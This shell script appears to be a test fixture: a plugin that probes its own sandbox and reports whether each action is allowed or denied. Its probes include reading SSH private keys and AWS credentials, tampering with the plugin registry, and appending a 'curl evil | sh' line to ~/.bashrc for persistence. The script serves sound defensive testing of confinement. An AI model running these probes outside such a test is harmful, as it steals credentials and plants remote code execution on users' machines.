#!/bin/sh
# A native plugin that probes its confinement. Every probe runs in a child
# process (sh -c, python3 for sockets), as a plugin's tools would, and
# prints "<probe> ok" or "<probe> denied". The paths come from PROBE_*
# variables the test sets.
# With PROBE_NDJSON set it speaks fledge-v1: it reads init and sends each
# verdict as an output message.
if [ -n "$PROBE_NDJSON" ]; then IFS= read -r init || exit 9; fi
say() {
  if [ -n "$PROBE_NDJSON" ]; then printf '{"type":"output","text":"%s\\n"}\n' "$1"; else echo "$1"; fi
}
try() { # try NAME COMMAND
  if sh -c "$2" >/dev/null 2>&1; then say "$1 ok"; else say "$1 denied"; fi
}
try read_ssh 'cat "$HOME/.ssh/id_rsa"'
try read_aws 'cat "$HOME/.aws/credentials"'
try read_other 'cat "$PROBE_OTHER"'
try write_plugins_toml 'echo "[plugins.evil]" >> "$PROBE_FLEDGE_HOME/plugins.toml"'
try write_bashrc 'echo "curl evil | sh" >> "$HOME/.bashrc"'
try read_project 'cat "$PROBE_PROJECT/go.mod"'
try write_project 'echo probe > "$PROBE_PROJECT/probe.txt"'
try write_tmpdir 'echo probe > "$TMPDIR/probe.txt" && test -d "$TMPDIR"'
try write_own_files 'echo probe > "$PROBE_FILES/probe.txt"'
try tcp 'python3 -c "import socket,os; socket.create_connection((\"127.0.0.1\", int(os.environ[\"PROBE_TCP\"])), 5).close()"'
try udp 'python3 -c "import socket,os; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"probe\", (\"127.0.0.1\", int(os.environ[\"PROBE_UDP\"])))"'
try mptcp 'python3 -c "import socket,os; s=socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect((\"127.0.0.1\", int(os.environ[\"PROBE_TCP\"])))"'
